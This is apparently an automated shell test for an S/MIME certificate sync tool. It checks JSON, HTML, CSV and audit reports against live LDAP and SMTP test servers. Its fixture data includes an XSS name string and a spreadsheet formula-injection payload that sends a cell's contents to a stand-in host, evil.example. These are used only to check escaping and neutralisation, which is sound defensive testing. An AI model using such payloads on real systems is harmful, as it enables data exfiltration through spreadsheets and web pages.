#!/bin/sh
# SPDX-License-Identifier: ISC
# What administrators read, after real runs against slapd and an SMTP sink:
#   - every stored report (and run --format json) validates against
#     doc/report.schema.json;
#   - report --format html is one self-contained file (no scripts, no
#     external assets), everything escaped, with summary, errors and what to
#     do, users and the four SVG charts; headless Chromium renders it to a
#     PNG without a console error;
#   - report --since summarises many runs in text, JSON and HTML;
#   - status --expiring / --group / --format csv and audit --user / --since.
set -eu
: "${top_srcdir:?}" "${top_builddir:?}" "${SMIMESYNC:?}"
. "$top_srcdir/tests/tools/slapd-lib.sh"
. "$top_srcdir/tests/tools/smtp-lib.sh"
. "$top_srcdir/tests/tools/smimesync-lib.sh"
slapd_require
smtp_require
CHROMIUM=$(command -v chromium || command -v chromium-browser || true)
# Without chromium everything else is still checked; the test then ends
# as skipped (77) unless something failed.
/usr/bin/python3 -c 'import jsonschema' 2>/dev/null ||
	{ echo "SKIP: python3-jsonschema is not installed (tools/install-deps)"; exit 77; }
command -v jq >/dev/null || { echo "SKIP: jq is not installed (tools/install-deps)"; exit 77; }

W=$(mktemp -d /tmp/smimesync-reports.XXXXXX)
cleanup() { smtp_stop || true; slapd_stop || true; [ -n "${KEEP:-}" ] || rm -rf "$W"; }
trap cleanup EXIT INT TERM
fails=0
fail() { echo "FAIL: $*"; fails=$((fails + 1)); }
ok() { echo "ok: $*"; }
VALIDATE="/usr/bin/python3 $top_srcdir/tests/tools/report-validate.py $top_srcdir/doc/report.schema.json"

mkdir -p "$W/slapd" "$W/smtp"
slapd_start "$W/slapd"
slapd_load "$top_srcdir/tests/data/example-org.ldif" >/dev/null
# Markup and a comma in a name: the HTML must escape it, the CSV quote it.
cat >"$W/odd.ldif" <<LDIF
dn: uid=markup,ou=people,$SLAPD_BASE
objectClass: inetOrgPerson
uid: markup
cn: Mark <script>alert(1)</script> Up
sn: Up, Mark
displayName: Up, Mark <b>&amp;</b>
mail: markup@example.org

dn: uid=formula,ou=people,$SLAPD_BASE
objectClass: inetOrgPerson
uid: formula
cn: Formula
sn: Formula
displayName: =HYPERLINK("http://evil.example/?"&A1, "click")
mail: formula@example.org
LDIF
slapd_load "$W/odd.ldif" >/dev/null
printf 'dn: cn=smime-staff,ou=groups,%s\nchangetype: modify\nadd: member\nmember: uid=markup,ou=people,%s\nmember: uid=formula,ou=people,%s\n' \
	"$SLAPD_BASE" "$SLAPD_BASE" "$SLAPD_BASE" | ldapmodify -x -H "$SLAPD_URI" -D "$SLAPD_ADMIN_DN" -y "$SLAPD_ADMIN_PW_FILE" >/dev/null
smtp_start "$W/smtp"
smimesync_write_config "$W" p256 p256
# A group whose DN does not exist: a directory error the report must explain.
cat >>"$SMIMESYNC_CONF" <<CONF

[group ghosts]
directory = corp
group_dn = cn=no-such-group,ou=groups,$SLAPD_BASE
ca = internal
key_type = p256
CONF
"$SMIMESYNC" ca init --root-key-out "$ROOT_KEY_OUT" >/dev/null
DB=$W/state/smimesync.db

rc=0
"$SMIMESYNC" run --format json >"$W/run1.json" 2>"$W/run1.log" || rc=$?
[ "$rc" = 3 ] && ok "first run: partial (the ghost group)" || fail "first run exit $rc: $(tail -3 "$W/run1.log")"
"$SMIMESYNC" run --format html >"$W/run2.html" 2>"$W/run2.log" || true
grep -q 'Charts about all certificates come from the store' "$W/run2.html" &&
	ok "run --format html prints the run's report (store charts left out, said so)" || fail "run --format html"

# --- JSON schema ------------------------------------------------------------
$VALIDATE "$DB" >"$W/validate.out" 2>&1 && ok "every stored report validates against doc/report.schema.json ($(grep -c '^valid' "$W/validate.out") reports)" ||
	fail "schema: $(grep ERROR "$W/validate.out" | head -5)"
$VALIDATE "$W/run1.json" >"$W/validate1.out" 2>&1 && ok "run --format json validates" || fail "run json: $(head -3 "$W/validate1.out")"
# The schema can fail: a report without "status" is refused.
jq 'del(.status)' "$W/run1.json" >"$W/broken.json"
$VALIDATE "$W/broken.json" >/dev/null 2>&1 && fail "the schema accepted a report without status" || ok "the schema refuses a broken report"

# --- HTML report --------------------------------------------------------------
# The first run's report: everyone issued, so everyone is listed.
"$SMIMESYNC" report --format html "$(jq -r .id "$W/run1.json")" >"$W/report.html"
H=$W/report.html
"$SMIMESYNC" report --last --format html >"$W/last.html" && [ "$(grep -c '<svg ' "$W/last.html")" = 4 ] &&
	ok "report --last --format html" || fail "report --last html"
grep -q '^<!DOCTYPE html>' "$H" && ok "HTML report written" || fail "no HTML"
grep -qi '<script' "$H" && fail "a <script> element in the report" || ok "no script element"
grep -q 'Mark &lt;script&gt;alert(1)&lt;/script&gt; Up\|Up, Mark &lt;b&gt;&amp;amp;&lt;/b&gt;' "$H" && ok "names are escaped" || fail "name not escaped"
grep -Eiq '(src|href)=|url\(|@import|<link' "$H" && fail "external reference: $(grep -Eio '(src|href)=[^ >]*|url\([^)]*\)|@import|<link' "$H" | head -3)" ||
	ok "self-contained: no src, href, url() or @import"
n_svg=$(grep -c '<svg ' "$H" || true)
[ "$n_svg" = 4 ] && ok "four inline SVG charts" || fail "$n_svg SVG charts"
for t in 'by days to expiry' 'by key type' 'by group' 'Issuance over the last runs'; do
	grep -q "$t" "$H" || fail "chart missing: $t"
done
awk '/<h2>Summary/{s=NR} /<h2>Errors/{e=NR} /<h2>Users/{u=NR} /<h2>Certificates/{c=NR} END{exit !(s && s<e && e<u && u<c)}' "$H" &&
	ok "summary first, then errors, users, charts" || fail "section order"
grep -q 'no-such-group' "$H" && grep -q 'Check that the directory server is reachable' "$H" &&
	ok "the directory error is shown with what to do" || fail "error advice missing"

chrome_render() {
	_prof=$(mktemp -d "$W/chrome.XXXXXX")
	"$CHROMIUM" --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
		--disable-background-networking --disable-component-update --disable-sync \
		--user-data-dir="$_prof" --window-size=1280,2200 --screenshot="$2" \
		--enable-logging=stderr --v=0 "file://$1" >"$3" 2>&1 || return 1
	[ -s "$2" ] || return 1
	[ "$(od -An -N4 -tx1 "$2" | tr -d ' ')" = 89504e47 ] || return 1
}
if [ -z "$CHROMIUM" ]; then
	echo "note: chromium is not installed: the HTML is not rendered"
elif chrome_render "$H" "$W/report.png" "$W/chrome.log"; then
	ok "Chromium rendered the report to a PNG ($(stat -c %s "$W/report.png") bytes)"
else
	fail "Chromium could not render: $(tail -5 "$W/chrome.log")"
fi
if [ -n "$CHROMIUM" ]; then
	grep -E 'CONSOLE|Uncaught|Refused to|net::ERR' "$W/chrome.log" >"$W/console.txt" || true
	[ ! -s "$W/console.txt" ] && ok "no console errors" || fail "console: $(head -3 "$W/console.txt")"
fi

# --- report --since ------------------------------------------------------------
"$SMIMESYNC" report --since 30d >"$W/since.txt" && grep -q '^smimesync: 2 runs from' "$W/since.txt" &&
	ok "report --since 30d (text) summarises 2 runs" || fail "since text: $(head -3 "$W/since.txt")"
"$SMIMESYNC" report --since 30d --format json >"$W/since.json"
issued=$(jq '.counts.issued' "$W/since.json")
[ "$(jq '.runs' "$W/since.json")" = 2 ] && [ "$issued" = "$(jq '.counts.issued' "$W/run1.json")" ] &&
	[ "$(jq '.by_status.partial' "$W/since.json")" = 2 ] && [ "$(jq '.errors | length' "$W/since.json")" -ge 2 ] &&
	ok "report --since (json): 2 runs, $issued issued, both partial, errors listed" || fail "since json: $(head -c 400 "$W/since.json")"
"$SMIMESYNC" report --since 2000-01-01 --format html >"$W/since.html"
grep -q '<h2>Runs</h2>' "$W/since.html" && [ "$(grep -c '<svg ' "$W/since.html")" = 4 ] &&
	ok "report --since (html) with runs table and charts" || fail "since html"
if [ -n "$CHROMIUM" ]; then
	chrome_render "$W/since.html" "$W/since.png" "$W/chrome2.log" && ! grep -Eq 'CONSOLE|Uncaught' "$W/chrome2.log" &&
		ok "Chromium renders the summary too" || fail "summary render: $(tail -3 "$W/chrome2.log")"
fi
rc=0; "$SMIMESYNC" report --since yesterday >/dev/null 2>"$W/err" || rc=$?
[ "$rc" = 2 ] && grep -q 'give a duration' "$W/err" && ok "a bad --since is a usage error that says what to write" || fail "bad since: rc=$rc"

# --- status filters and CSV ------------------------------------------------------
total=$("$SMIMESYNC" status --format json | jq 'map(select(.serial != null)) | length')
[ "$("$SMIMESYNC" status --expiring 400d --format json | jq length)" = "$total" ] &&
	ok "status --expiring 400d: all $total certificates" || fail "expiring 400d"
[ "$("$SMIMESYNC" status --format json | jq '[.[] | select(.serial != null and .state != "valid")] | length')" = 0 ] &&
	ok "status json: every certificate holder is in state valid" || fail "status json state"
[ "$("$SMIMESYNC" status --expiring 30d --format json | jq length)" = 0 ] &&
	ok "status --expiring 30d: none" || fail "expiring 30d"
staff=$("$SMIMESYNC" status --group smime-staff --format json)
[ "$(echo "$staff" | jq 'map(select(.group != "smime-staff")) | length')" = 0 ] && [ "$(echo "$staff" | jq length)" -gt 0 ] &&
	ok "status --group smime-staff: only staff ($(echo "$staff" | jq length))" || fail "group filter"
rc=0; "$SMIMESYNC" status --group smime-staf >"$W/typo.out" 2>"$W/err" || rc=$?
[ "$rc" = 2 ] && [ ! -s "$W/typo.out" ] && grep -q 'no \[group smime-staf\].*its groups: smime-sales, smime-staff' "$W/err" &&
	ok "status --group with a typo is an error naming the groups, not an empty list" || fail "unknown group: rc=$rc $(cat "$W/err")"
"$SMIMESYNC" status --format csv >"$W/status.csv"
head -1 "$W/status.csv" | grep -q '^mail,name,group,id,serial,not_after,published,state,last_error' && ok "CSV header" || fail "CSV header"
/usr/bin/python3 - "$W/status.csv" "$total" <<'PY' && ok "CSV parses: one row per user, the comma in a name quoted" || fail "CSV content"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
assert sum(1 for r in rows if r["serial"]) == int(sys.argv[2]), "rows"
m = [r for r in rows if r["mail"] == "markup@example.org"]
assert m and m[0]["name"].startswith("Up, Mark"), m
PY
# A formula that also needs quotes (comma, quote) is still neutralised.
/usr/bin/python3 - "$W/status.csv" <<'PY' && ok "CSV: a quoted formula cell starts with an apostrophe" || fail "CSV formula in a quoted cell: $(grep formula@ "$W/status.csv")"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
f = [r for r in rows if r["mail"] == "formula@example.org"]
assert f and f[0]["name"].startswith("'=HYPERLINK"), f
PY
rc=0; "$SMIMESYNC" status --format xml >/dev/null 2>"$W/err" || rc=$?
[ "$rc" = 2 ] && ok "status --format xml is a usage error" || fail "status xml rc=$rc"

# --- audit -----------------------------------------------------------------------
"$SMIMESYNC" audit --user alice@example.org >"$W/audit.txt"
grep -q 'user=alice@example.org certificate-issued' "$W/audit.txt" && ! grep -qv 'user=alice@example.org' "$W/audit.txt" &&
	ok "audit --user alice: only alice, her issuance ($(wc -l <"$W/audit.txt") entries)" || fail "audit user: $(head -3 "$W/audit.txt")"
all=$("$SMIMESYNC" audit --format json | jq length)
[ "$("$SMIMESYNC" audit --since 1d --format json | jq length)" = "$all" ] && [ "$all" -gt 0 ] &&
	ok "audit --since 1d: all $all entries" || fail "audit since 1d"
[ "$("$SMIMESYNC" audit --since 2099-01-01 --format json | jq length)" = 0 ] && ok "audit --since the future: none" || fail "audit future"
rc=0; "$SMIMESYNC" audit --user alcie@example.org >"$W/audit-typo.txt" 2>"$W/err" || rc=$?
[ "$rc" = 0 ] && [ ! -s "$W/audit-typo.txt" ] && grep -q 'no entries for "alcie@example.org"; --user takes' "$W/err" &&
	ok "audit --user with a typo says there are no entries, on stderr" || fail "audit typo: rc=$rc $(cat "$W/err")"

# --- a report of 10,000 people stays readable ------------------------------------
# A roll-out's report (tests/tools/big-report.py: schema-valid, 10,000 people,
# 100 failures), stored in a copy of the store as a run, rendered as HTML.
mkdir -m 700 "$W/big"
sqlite3 "$DB" ".backup $W/big/smimesync.db"
printf '[service]\nstate_dir = %s/big\n' "$W" >"$W/big.conf"
for n in 10000 300; do
	/usr/bin/python3 "$top_srcdir/tests/tools/big-report.py" "$n" "R$n" >"$W/r$n.json"
	sqlite3 "$W/big/smimesync.db" "INSERT INTO runs (id, started, finished, status, report) VALUES ('R$n', 1, 2, 'partial', readfile('$W/r$n.json'))"
	"$SMIMESYNC" -c "$W/big.conf" report "R$n" --format html >"$W/r$n.html"
done
$VALIDATE "$W/r10000.json" >/dev/null 2>&1 && ok "the 10,000-person report validates against the schema" || fail "big report schema"
B=$W/r10000.html
size=$(stat -c %s "$B")
[ "$size" -lt 4194304 ] && ok "10,000 people in $size bytes ($((size / 10000)) per person; the bound is 4 MiB)" || fail "10,000 people take $size bytes"
grep -q '<details class="people"><summary><h2>Users (10000)</h2></summary>' "$B" &&
	ok "the people table is collapsed behind its count" || fail "people not collapsed"
awk '/<h2>Summary/{s=NR} /<h2>Errors/{e=NR} /<h2>Users/{u=NR} END{exit !(s && s<e && e<u)}' "$B" &&
	ok "summary first, then errors, then the people" || fail "big report section order"
grep -q '<details class="errs"><summary><h2>Errors (100)</h2>' "$B" && ok "100 errors: collapsed too" || fail "errors not collapsed"
grep -qi '<script' "$B" && fail "a script in the big report" || ok "no script: filtering is CSS only"
grep -q "Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'" "$B" &&
	ok "a Content-Security-Policy forbids any script" || fail "no CSP"
# Every filter value has its button and its rule; the values are indexes, never report text.
for dim in o a g; do
	grep -q "<input type=\"radio\" class=\"f\" name=\"f$dim\" id=\"f$dim-all\" checked>" "$B" || fail "no filter buttons for $dim"
done
grep -q '<label for="fo[0-9]*">failed (100)</label>' "$B" && grep -q '<label for="fa[0-9]*">skip (100)</label>' "$B" && grep -q '<label for="fo[0-9]*">pending (40)</label>' "$B" &&
	grep -q '<label for="fg[0-9]*">sales (3334)</label>' "$B" && ok "filters by outcome, action and group, with counts" || fail "filter labels"
if [ -n "$CHROMIUM" ]; then
	if chrome_render "$B" "$W/big.png" "$W/big-chrome.log"; then
		ok "Chromium rendered the 10,000-person report to a PNG"
	else
		fail "Chromium could not render the big report: $(tail -5 "$W/big-chrome.log")"
	fi
	grep -E 'CONSOLE|Uncaught|Refused to|net::ERR' "$W/big-chrome.log" >"$W/big-console.txt" || true
	[ ! -s "$W/big-console.txt" ] && ok "no console errors (no CSP violation)" || fail "console: $(head -3 "$W/big-console.txt")"
	"$CHROMIUM" --headless --no-sandbox --disable-gpu --user-data-dir="$W/chrome-dom" --dump-dom "file://$B" >"$W/big-dom.html" 2>/dev/null || true
	rows=$(grep -o '<tr class="o' "$W/big-dom.html" | wc -l)
	[ "$rows" = 10000 ] && ok "the browser's DOM holds all 10,000 rows" || fail "the DOM holds $rows rows"
	# The filter works in the browser: printed with only "failed" chosen, the
	# page is a fraction of the page with every person (details opened).
	/usr/bin/python3 - "$W/r300.html" "$W" <<'PY'
import re, sys
h = open(sys.argv[1]).read().replace('<details class="people">', '<details class="people" open>')
open(sys.argv[2] + "/all.html", "w").write(h)
fid = re.search(r'<label for="(fo\d+)">failed \(', h).group(1)
h = h.replace('id="fo-all" checked>', 'id="fo-all">').replace('id="%s">' % fid, 'id="%s" checked>' % fid)
open(sys.argv[2] + "/failed.html", "w").write(h)
PY
	for v in all failed; do
		"$CHROMIUM" --headless --no-sandbox --disable-gpu --user-data-dir="$W/chrome-pdf" --no-pdf-header-footer \
			--print-to-pdf="$W/$v.pdf" "file://$W/$v.html" >/dev/null 2>&1 || true
	done
	pages() { /usr/bin/python3 -c 'import re, sys; print(len(re.findall(rb"/Type\s*/Page[^s]", open(sys.argv[1], "rb").read())))' "$1" 2>/dev/null || echo 0; }
	p_all=$(pages "$W/all.pdf"); p_failed=$(pages "$W/failed.pdf")
	[ "$p_failed" -gt 0 ] && [ "$p_all" -ge $((3 * p_failed)) ] &&
		ok "the outcome filter hides the other rows: $p_failed printed pages instead of $p_all" ||
		fail "filter: $p_failed pages with \"failed\" chosen, $p_all with all"
fi

echo "$fails failure(s)"
[ "$fails" = 0 ] || exit 1
[ -n "$CHROMIUM" ] || { echo "SKIP: chromium is not installed (tools/install-deps): the rendering was not checked"; exit 77; }
exit 0
